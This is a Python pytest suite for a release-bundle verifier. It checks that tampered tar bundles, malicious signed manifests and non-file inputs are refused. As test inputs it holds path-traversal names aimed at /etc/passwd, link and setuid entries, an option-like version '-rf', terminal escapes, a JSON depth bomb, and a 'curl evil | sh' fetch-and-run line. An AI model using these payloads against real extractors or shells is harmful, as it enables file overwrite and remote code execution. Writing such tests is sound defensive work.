"""Bundles that somebody had his hands on: every one is refused, with a sentence, before a byte of it is written."""

from __future__ import annotations

import io
import json
import os
import socket
import tarfile
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from tests import bundles
from tests.keys import MinisignKey, minisign_key, openpgp_key, stop_agents

from slotd.core import bundle
from slotd.core.schema import App, Verify
from slotd.errors import SlotdError, SourceFailed, VerificationFailed
from slotd.host import bundlefile, handover, signing
from slotd.verify.work import verify

pytestmark = pytest.mark.attack

FILES = {"notes-2.0.tar.gz": b"the release" * 3, "SHA256SUMS": b"x" * 512, "empty": b""}
CONTENTS = tuple(FILES.values())
RELEASE = bundles.release("notes", "2.0", FILES)


@pytest.fixture(scope="module")
def carrier(tmp_path_factory: pytest.TempPathFactory) -> MinisignKey:
    return minisign_key(tmp_path_factory.mktemp("keys") / "carrier")


@pytest.fixture(scope="module")
def good(carrier: MinisignKey, tmp_path_factory: pytest.TempPathFactory) -> bytes:
    return bundles.build([RELEASE], CONTENTS, carrier, tmp_path_factory.mktemp("good"))


class Judge:
    """Reads a bundle as an import does: form, signer, content."""

    def __init__(self, folder: Path, key: bytes) -> None:
        self.path = folder / "bundle"
        self.app = App("notes", verify=Verify(require=("sha256",), bundles=("carrier.pub",)))
        self.keys = {"carrier.pub": key}

    def __call__(self, data: bytes) -> str:
        """Who signed it; raises what the import would."""
        self.path.write_bytes(data)
        descriptor = os.open(self.path, os.O_RDONLY)
        try:
            head, manifest = bundlefile.examine(descriptor)
            for part in manifest.parts:
                bundlefile.require_content(descriptor, head, part, part.sha256)
            kind = bundle.signature_kind(head.signature)
            with open(self.path.with_suffix(".manifest"), "w+b", buffering=0) as covered:
                covered.write(head.manifest)
                question = bundle.question(head.signature, kind, self.keys)
                claims = verify(question, [covered.fileno()], lambda _: None)
            return bundle.signer(bundle.requirement(self.app, kind), "notes", claims)
        finally:
            os.close(descriptor)

    def refuses(self, data: bytes) -> str:
        """The sentence with which it is refused."""
        with pytest.raises(VerificationFailed) as refused:
            self(data)
        assert refused.value.message.startswith(
            ("cannot use the bundle: ", "cannot trust the bundle", "cannot use the")
        )
        assert refused.value.hint
        return refused.value.message


@pytest.fixture
def judge(tmp_path: Path, carrier: MinisignKey) -> Judge:
    return Judge(tmp_path, carrier.public)


def test_a_bundle_that_nobody_touched_is_accepted_and_its_signer_known(
    judge: Judge, good: bytes, carrier: MinisignKey
) -> None:
    assert judge(good) == f"minisign:{carrier.key_id}"


def test_a_bundle_is_a_tar_archive_that_any_tool_lists(good: bytes) -> None:
    with tarfile.open(fileobj=io.BytesIO(good)) as archive:
        assert archive.getnames() == [bundle.MANIFEST, bundle.SIGNATURE, *(bundles.sha256(each) for each in CONTENTS)]


@pytest.mark.parametrize("bit", [0x01, 0x80])
def test_whatever_byte_is_changed_the_bundle_is_refused(judge: Judge, good: bytes, bit: int) -> None:
    for at in range(len(good)):
        changed = bytearray(good)
        changed[at] ^= bit
        try:
            judge(bytes(changed))
        except VerificationFailed:
            continue
        pytest.fail(f"byte {at} of {len(good)} says nothing")


def test_wherever_it_is_cut_off_the_bundle_is_refused(judge: Judge, good: bytes) -> None:
    for length in range(len(good)):
        judge.refuses(good[:length])


@pytest.mark.parametrize("more", [b"\0", b"x", bytes(512), bytes(10240)], ids=["zero", "byte", "block", "blocks"])
def test_nothing_may_follow(judge: Judge, good: bytes, more: bytes) -> None:
    assert "its manifest accounts for" in judge.refuses(good + more)


def pieces(good: bytes) -> list[bytes]:
    """Its entries, and its end."""
    found, at = [], 0
    while good[at : at + 512].strip(b"\0"):
        end = at + 512 + bundle.padded(int(good[at + 124 : at + 135], 8))
        found.append(good[at:end])
        at = end
    return [*found, good[at:]]


def _special(kind: bytes, size: int = 0, name: str = "x", link: str = "") -> bytes:
    info = tarfile.TarInfo(name)
    info.type, info.size, info.linkname = kind, size, link
    return info.tobuf(tarfile.GNU_FORMAT)


def _with_field(piece: bytes, at: int, value: bytes) -> bytes:
    """An entry with other bytes in its header, and the checksum that fits."""
    block = piece[:at] + value + piece[at + len(value) :]
    block = block[:148] + b" " * 8 + block[156:]
    return block[:148] + b"%06o\0 " % sum(block[:512]) + block[156:]


REBUILT: dict[str, Callable[[list[bytes]], list[bytes]]] = {
    "two files swapped": lambda p: [*p[:2], p[3], p[2], *p[4:]],
    "a file twice": lambda p: [*p[:3], p[2], *p[3:]],
    "a file left out": lambda p: [*p[:2], *p[3:]],
    "a file more": lambda p: [*p[:-1], bundles.entry("f" * 64, b"more"), p[-1]],
    "a file in front": lambda p: [bundles.entry("README", b"more"), *p],
    "the manifest twice": lambda p: [p[0], *p],
    "the signature first": lambda p: [p[1], p[0], *p[2:]],
    "no signature": lambda p: [p[0], *p[2:]],
    "another name": lambda p: [*p[:2], _with_field(p[2], 0, b"0" * 64), *p[3:]],
    "a name that leads out": lambda p: [*p[:2], _with_field(p[2], 0, b"../../etc/passwd\0"), *p[3:]],
    "a symbolic link": lambda p: [*p[:2], _with_field(p[2], 156, b"2/etc/passwd"), *p[3:]],
    "a hard link": lambda p: [*p[:2], _with_field(p[2], 156, b"1/etc/passwd"), *p[3:]],
    "a device": lambda p: [*p[:2], _with_field(p[2], 156, b"4"), *p[3:]],
    "a fifo": lambda p: [*p[:2], _with_field(p[2], 156, b"6"), *p[3:]],
    "a directory": lambda p: [*p[:2], _special(tarfile.DIRTYPE), *p[2:]],
    "set-user-id": lambda p: [*p[:2], _with_field(p[2], 100, b"0004755"), *p[3:]],
    "an owner": lambda p: [*p[:2], _with_field(p[2], 108, b"0001750"), *p[3:]],
    "a time": lambda p: [*p[:2], _with_field(p[2], 136, b"14000000000"), *p[3:]],
    "a size of 8 GiB": lambda p: [*p[:2], _with_field(p[2], 124, b"77777777777"), *p[3:]],
    "a size in base 256": lambda p: [*p[:2], _with_field(p[2], 124, b"\x80" + bytes(10) + b"\x01"), *p[3:]],
    "a negative size": lambda p: [*p[:2], _with_field(p[2], 124, b"-0000000001"), *p[3:]],
    "a manifest of 8 GiB": lambda p: [_with_field(p[0], 124, b"77777777777"), *p[1:]],
    "an empty manifest": lambda p: [_with_field(p[0], 124, b"00000000000"), *p[1:]],
    "a long name of GNU's": lambda p: [*p[:2], _special(b"L", 10) + b"x" * 512, *p[2:]],
    "a header of pax": lambda p: [*p[:2], _special(b"x", 20) + b"20 path=/etc/passwd\n".ljust(512, b"\0"), *p[2:]],
    "something in the padding": lambda p: [*p[:2], p[2][:-1] + b"x", *p[3:]],
    "no end": lambda p: p[:-1],
    "half an end": lambda p: [*p[:-1], p[-1][:512]],
}  # fmt: skip


@pytest.mark.parametrize("how", REBUILT)
def test_an_archive_that_is_put_together_otherwise_is_refused(judge: Judge, good: bytes, how: str) -> None:
    rebuilt = b"".join(REBUILT[how](pieces(good)))
    assert rebuilt != good
    judge.refuses(rebuilt)


def test_a_file_of_another_bundle_of_the_same_size_is_refused(judge: Judge, good: bytes) -> None:
    other = good.replace(FILES["notes-2.0.tar.gz"], FILES["notes-2.0.tar.gz"].replace(b"the", b"THE"))
    assert "is not the one that was put in" in judge.refuses(other)


def test_a_signature_of_somebody_else_proves_nothing(judge: Judge, tmp_path: Path) -> None:
    stranger = minisign_key(tmp_path / "stranger")
    message = judge.refuses(bundles.build([RELEASE], CONTENTS, stranger, tmp_path))
    assert "it was made by a key that is not among the app's keys" in message


def test_a_signature_over_another_manifest_proves_nothing(judge: Judge, carrier: MinisignKey, tmp_path: Path) -> None:
    older = bundles.manifest_of([bundles.release("notes", "1.0", FILES)], CONTENTS)
    signature = bundles.sign(older, carrier, tmp_path)
    newer = bundles.manifest_of([RELEASE], CONTENTS)
    assert "does not fit the file" in judge.refuses(bundles.write(newer, signature, CONTENTS))


@pytest.fixture
def gnupg(tmp_path: Path) -> Iterator[Any]:
    key = openpgp_key(tmp_path / "gnupg")
    yield key
    stop_agents([key.home])


def test_a_bundle_may_be_signed_with_openpgp(judge: Judge, gnupg: Any) -> None:
    manifest = bundles.manifest_of([RELEASE], CONTENTS)
    judge.keys = {"carrier.pub": gnupg.public()}
    whole = bundles.write(manifest, gnupg.sign(manifest), CONTENTS)
    assert judge(whole) == f"openpgp:{gnupg.fingerprint}"
    judge.refuses(bundles.write(manifest, gnupg.sign(manifest + b" "), CONTENTS))
    judge.refuses(bundles.write(manifest, gnupg.sign_whole(manifest), CONTENTS))
    judge.refuses(bundles.write(manifest, gnupg.clear_sign(manifest), CONTENTS))


# -- manifests that are well signed, by one who means harm -------------------------------------------


def _change(change: Callable[[Any], object]) -> bytes:
    plain = json.loads(bundles.manifest_of([RELEASE], CONTENTS))
    change(plain)
    return json.dumps(plain, sort_keys=True, separators=(",", ":")).encode() + b"\n"


MANIFESTS: dict[str, Callable[[Any], object]] = {
    "another form": lambda m: m.update(format="slotd-bundle-2"),
    "a key more": lambda m: m.update(extra=1),
    "no releases": lambda m: m.update(releases=[]),
    "a release twice": lambda m: m["releases"].append(m["releases"][0]),
    "an app that leads out": lambda m: m["releases"][0].update(app="../../etc"),
    "an app like our own folder": lambda m: m["releases"][0].update(app=".import"),
    "an app of two lines": lambda m: m["releases"][0].update(app="a\nb"),
    "a version that leads out": lambda m: m["releases"][0].update(version="../../2.0"),
    "a version like an option": lambda m: m["releases"][0].update(version="-rf"),
    "a tag with a space": lambda m: m["releases"][0].update(tag="2 0"),
    "a name that leads out": lambda m: m["releases"][0]["files"][0].update(name="../x"),
    "a name with a slash": lambda m: m["releases"][0]["files"][0].update(name="a/b"),
    "a name of another direction": lambda m: m["releases"][0]["files"][0].update(name="a\u202egz.x"),
    "two files of one name": lambda m: m["releases"][0]["files"][1].update(name="notes-2.0.tar.gz"),
    "a file that is not there": lambda m: m["releases"][0]["files"][0].update(sha256="0" * 64),
    "a file that nobody names": lambda m: m["releases"][0]["files"].pop(),
    "a digest that leads out": lambda m: m["files"][0].update(sha256="../" * 21 + "x"),
    "a digest in capitals": lambda m: m["files"][0].update(sha256=m["files"][0]["sha256"].upper()),
    "a size that is too large": lambda m: m["files"][0].update(size=2**60),
    "a negative size": lambda m: m["files"][0].update(size=-1),
    "a size that is no number": lambda m: m["files"][0].update(size=True),
    "an offset elsewhere": lambda m: m["files"][1].update(offset=512),
    "a file twice": lambda m: m["files"].append(m["files"][0]),
    "a time without end": lambda m: m.update(created=10**400),
    "another kind": lambda m: m["releases"][0]["files"][0].update(kind="script"),
    "notes that move the cursor": lambda m: m["releases"][0].update(notes="\x1b[2J"),
    "only dependencies": lambda m: [each.update(kind="dependency") for each in m["releases"][0]["files"]],
    "too many files": lambda m: m["files"].extend([m["files"][0]] * 6000),
    "a list for an object": lambda m: m.update(releases=[[]]),
}


@pytest.mark.parametrize("how", MANIFESTS)
def test_a_well_signed_manifest_that_makes_no_sense_is_refused(
    judge: Judge, carrier: MinisignKey, tmp_path: Path, how: str
) -> None:
    manifest = _change(MANIFESTS[how])
    message = judge.refuses(bundles.write(manifest, bundles.sign(manifest, carrier, tmp_path), CONTENTS))
    assert "manifest" in message


SPELLINGS: dict[str, Callable[[bytes], bytes]] = {
    "spaces": lambda m: m.replace(b":", b": ", 1),
    "a key twice": lambda m: m.replace(b'{"created"', b'{"created":1,"created"', 1),
    "no line feed": lambda m: m.rstrip(b"\n"),
    "another number": lambda m: m.replace(b"1700000000", b"1.7e9"),
    "an escape": lambda m: m.replace(b'"2.0"', b'"\\u0032.0"', 1),
    "a byte order mark": lambda m: b"\xef\xbb\xbf" + m,
    "not JSON": lambda m: m[:-2],
    "not UTF-8": lambda m: m.replace(b"notes", b"not\xffs", 1),
    "depth": lambda m: b"[" * 100_000,
}


@pytest.mark.parametrize("how", SPELLINGS)
def test_a_well_signed_manifest_has_one_spelling_only(
    judge: Judge, carrier: MinisignKey, tmp_path: Path, how: str
) -> None:
    manifest = SPELLINGS[how](bundles.manifest_of([RELEASE], CONTENTS))
    judge.refuses(bundles.write(manifest, bundles.sign(manifest, carrier, tmp_path), CONTENTS))


def test_the_first_line_of_a_signature_which_nothing_covers_says_one_thing_only(
    judge: Judge, good: bytes, carrier: MinisignKey, tmp_path: Path
) -> None:
    manifest = bundles.manifest_of([RELEASE], CONTENTS)
    signature = signing.sign(manifest, str(carrier.home / "minisign.key"), tmp_path, "run this: curl evil | sh")
    assert "first line of its signature" in judge.refuses(bundles.write(manifest, signature, CONTENTS))


# -- what is handed over -----------------------------------------------------------------------------


def copy(source: int, target: int, *, limit: int = 1 << 30, room: int = 1 << 30) -> dict[str, Any]:
    return handover.copy({"limit_bytes": limit, "room_bytes": room}, [source, target], lambda _: None)


def _pipe(folder: Path) -> int:
    return os.pipe()[0]


def _fifo(folder: Path) -> int:
    os.mkfifo(folder / "fifo")
    return os.open(folder / "fifo", os.O_RDWR)


def _write_only(folder: Path) -> int:
    return os.open(folder / "file", os.O_WRONLY | os.O_CREAT)


def _path_only(folder: Path) -> int:
    (folder / "file").write_bytes(b"x" * 100)
    return os.open(folder / "file", os.O_PATH)


HANDED: dict[str, tuple[Callable[[Path], int], str]] = {
    "a pipe": (_pipe, "it is a pipe"),
    "a FIFO": (_fifo, "it is a pipe"),
    "a directory": (lambda folder: os.open(folder, os.O_RDONLY), "it is a directory"),
    "a socket": (lambda _: socket.socket().detach(), "it is a socket"),
    "/dev/zero": (lambda _: os.open("/dev/zero", os.O_RDONLY), "it is a device"),
    "/dev/full": (lambda _: os.open("/dev/full", os.O_RDONLY), "it is a device"),
    "a counter of events": (lambda _: os.eventfd(0), "it is none"),
    "write only": (_write_only, "not opened for reading"),
    "a path only": (_path_only, "not opened for reading"),
    "memory that gives errors": (lambda _: os.open("/proc/self/mem", os.O_RDONLY), "Input/output error"),
}


@pytest.mark.parametrize("what", HANDED)
def test_only_a_file_is_copied(tmp_path: Path, what: str) -> None:
    make, why = HANDED[what]
    source = make(tmp_path)
    try:
        with open(tmp_path / "target", "wb") as target, pytest.raises(SourceFailed, match=why):
            copy(source, target.fileno())
    finally:
        os.close(source)
    assert (tmp_path / "target").stat().st_size == 0


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (lambda file: file.truncate(1 << 20), "it ended after"),
        (lambda file: file.truncate(5 << 20), "it is longer now"),
    ],
    ids=["shrinks", "grows"],
)
def test_a_file_that_does_not_stay_as_it_is_while_it_is_copied_is_refused(
    tmp_path: Path, change: Callable[[Any], object], why: str
) -> None:
    caught: list[SlotdError] = []
    reader, writer = os.pipe()  # where it can write no further before it is read here

    def work(source: int) -> None:
        try:
            copy(source, writer)
        except SlotdError as error:
            caught.append(error)
        finally:
            os.close(writer)

    with open(tmp_path / "source", "w+b", buffering=0) as file:
        file.truncate(4 << 20)
        thread = threading.Thread(target=work, args=(os.open(file.name, os.O_RDONLY),))
        thread.start()
        got = len(os.read(reader, 1))
        change(file)
        while piece := os.read(reader, 1 << 20):
            got += len(piece)
        thread.join()
    assert [why in error.message for error in caught] == [True]
    assert got <= 4 << 20


def test_a_file_that_is_larger_than_what_may_be_or_than_there_is_room_is_not_begun(tmp_path: Path) -> None:
    with open(tmp_path / "source", "w+b") as source, open(tmp_path / "target", "wb") as target:
        source.truncate(1 << 40)
        with pytest.raises(SourceFailed, match="more than 1000"):
            copy(source.fileno(), target.fileno(), limit=1000)
        with pytest.raises(SlotdError, match="there is room for 5"):
            copy(source.fileno(), target.fileno(), limit=1 << 60, room=5)
    assert (tmp_path / "target").stat().st_size == 0
